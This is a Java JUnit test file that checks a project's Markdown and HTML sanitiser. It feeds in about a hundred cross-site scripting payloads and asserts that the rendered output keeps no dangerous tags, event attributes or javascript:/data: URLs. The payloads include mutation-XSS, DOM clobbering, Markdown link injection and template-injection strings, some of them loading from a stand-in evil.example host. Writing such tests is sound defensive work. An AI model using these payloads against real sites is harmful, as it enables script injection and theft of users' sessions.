package org.roundtable.shared;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.Set;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** What was tried against other systems, tried here: as Markdown, as HTML, and put through twice. */
class MarkupHostileTest {

    private static final Set<String> NEVER = Set.of("script", "style", "iframe", "frame", "object", "embed", "applet", "form", "input", "button", "textarea",
        "select", "base", "link", "meta", "svg", "math", "template", "noscript", "title", "xmp", "plaintext", "marquee", "portal", "source", "track", "dialog");

    static Stream<String> attacks() {
        return Stream.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<script\n>alert(1)</script\t>",
            "<script x='</script>'>alert(1)//",
            "<img src=x onerror=alert(1)>",
            "<img src=x onerror\n=\nalert(1)>",
            "<img/src/onerror=alert(1)>",
            "<img src=`x`onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
            "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
            "<math href='javascript:alert(1)'>x</math>",
            "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
            "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
            "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
            "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
            "<style><p title='</style><img src=x onerror=alert(1)>'>",
            "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
            "<template><p title='</template><img src=x onerror=alert(1)>'>",
            "<select><template><style><!--</style><a rel='--></style></template></select><img id=x src onerror=alert(1)>'>",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<p title='--><img src=x onerror=alert(1)>'>",
            "<!--><img src=x onerror=alert(1)>-->",
            "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<?xml version='1.0'?><script>alert(1)</script>",
            "<a href='javascript:alert(1)'>x</a>",
            "<a href='JaVaScRiPt:alert(1)'>x</a>",
            "<a href='&#106;avascript&colon;alert(1)'>x</a>",
            "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
            "<a href='java\tscript:alert(1)'>x</a>",
            "<a href='java&Tab;script&NewLine;:alert(1)'>x</a>",
            "<a href='\u0001javascript:alert(1)'>x</a>",
            "<a href=' &#14; javascript:alert(1)'>x</a>",
            "<a href='vbscript:msgbox(1)'>x</a>",
            "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
            "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
            "<a href='view-source:javascript:alert(1)'>x</a>",
            "<a href='//evil.example/\" onclick=\"alert(1)'>x</a>",
            "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
            "<img src='javascript:alert(1)'>",
            "<img srcset='//evil.example/x.png 1x' src=fig/a.png>",
            "<img src=fig/a.png style='background:url(//evil.example)'>",
            "<div style='background-image:url(javascript:alert(1))'>x</div>",
            "<div style='width:expression(alert(1))'>x</div>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
            "<base href=//evil.example/>",
            "<object data='data:text/html,<script>alert(1)</script>'></object>",
            "<embed src=//evil.example/x.swf>",
            "<iframe src=javascript:alert(1)></iframe>",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
            "<iframe src='https://www.youtube.com/embed/abcdef\" onload=\"alert(1)'></iframe>",
            "<iframe src='https://www.youtube.com@evil.example/embed/abcdef'></iframe>",
            "<form action=javascript:alert(1)><button>x</button></form>",
            "<button formaction=javascript:alert(1)>x</button>",
            "<input autofocus onfocus=alert(1)>",
            "<details open ontoggle=alert(1)>x</details>",
            "<video><source onerror=alert(1)></video>",
            "<video src=x onerror=alert(1)></video>",
            "<video poster=javascript:alert(1) src=clip.mp4></video>",
            "<audio src=x onloadstart=alert(1)></audio>",
            "<body onload=alert(1)>",
            "<marquee onstart=alert(1)>x</marquee>",
            "<table background=javascript:alert(1)><td onmouseover=alert(1)>x",
            "<p id=document name=cookie>clobber</p>",
            "<a id=main href=#x>clobber</a><img name=getElementById src=fig/a.png>",
            "<x onclick=alert(1)>x</x>",
            "<details class='box solution' onclick=alert(1)>x</details>",
            "<p class='rt-shell ui-dialog'>dressed up</p>",
            "<<script>alert(1);//<</script>",
            "<a href=\"https://ok.example\" onmouseover=alert(1)//\">x</a>",
            "\u0000<script\u0000>alert(1)</script>",
            "[x](javascript:alert(1))",
            "[x](JAVASCRIPT&colon;alert(1))",
            "[x](<javascript:alert(1)>)",
            "[x](java&#115;cript:alert(1))",
            "[x](\\javascript:alert(1))",
            "[x](data:text/html;base64,PHNjcmlwdD4=)",
            "[x](https://ok.example \"t\\\" onmouseover=\\\"alert(1)\")",
            "[x]: javascript:alert(1)\n\n[x]",
            "<javascript:alert(1)>",
            "<https://ok.example/\"onmouseover=alert(1)>",
            "![x](javascript:alert(1))",
            "![x\" onerror=\"alert(1)](fig/a.png)",
            "![x](fig/a.png \"\\\" onerror=\\\"alert(1)\")",
            "![x](fig/a.png){alt='\" onerror=\"alert(1)' onerror=alert(1) style=\"position:fixed\"}",
            "![x](fig/a.png){width='1\" onload=\"alert(1)'}",
            "```x\" onclick=\"alert(1)\ncode\n```",
            "```html\n</code></pre><script>alert(1)</script>\n```",
            "`</code><script>alert(1)</script>`",
            "$</span><script>alert(1)</script>$",
            "$$\n</div><img src=x onerror=alert(1)>\n$$",
            "\\(<script>alert(1)</script>\\)",
            "## <script>alert(1)</script> {#x\" onclick=\"alert(1)}",
            "::: callout\" onclick=\"alert(1)\nx\n:::",
            "::: solution\n## <img src=x onerror=alert(1)>\nx\n:::",
            "| <script>alert(1)</script> |\n|---|\n| [x](javascript:alert(1)) |",
            "<details class=\"box solution\"><summary>x</details><script>alert(1)</script>",
            "</div></div></main><script>alert(1)</script>",
            "#{request.getSession()} ${7*7} {{constructor.constructor('alert(1)')()}}");
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void comes_out_harmless(String attack) {
        var showing = Showing.article(Audience.TEAM, path -> Optional.of("/file?name=" + Integer.toHexString(path.hashCode())), key -> key);

        for (var html : List.of(Markup.render(attack, showing), Markup.render("- > text\n\n" + attack + "\n\ntext", showing), Markup.html(attack), Markup.render(attack))) {
            assertHarmless(html);
            assertHarmless(Markup.html(html));
            assertHarmless(Jsoup.parseBodyFragment(html).body().html());
        }
    }

    private static void assertHarmless(String html) {
        for (var element : Jsoup.parse(html).getAllElements()) {
            assertThat(element.tagName().toLowerCase(Locale.ROOT)).as(html).isNotIn(element.parents().isEmpty() || element.parent().tagName().equals("html")
                || element.parent().tagName().equals("head") && element.tagName().equals("title") ? Set.of() : NEVER);
            for (var attribute : element.attributes()) {
                assertThat(attribute.getKey().toLowerCase(Locale.ROOT)).as(html).doesNotStartWith("on").isNotIn("style", "srcset", "srcdoc", "formaction", "poster", "name", "background", "target");
                if (Set.of("href", "src").contains(attribute.getKey())) {
                    assertThat(attribute.getValue()).as(html).matches("(?s)(https?://|mailto:|#h-|/[^/\\\\]).*");
                }
                if (Set.of("src").contains(attribute.getKey())) {
                    assertThat(attribute.getValue()).as(html).startsWith("/file?name=");
                }
                if (attribute.getKey().equals("id")) {
                    assertThat(attribute.getValue()).as(html).startsWith("h-");
                }
            }
        }
        assertThat(Jsoup.parse(html).select("script, style, iframe, object, embed, link, meta, base, form, input, button, textarea, select, svg, math, template, noscript, xmp, marquee")).as(html).isEmpty();
        assertThat(html).doesNotContain("rt-shell");
    }
}
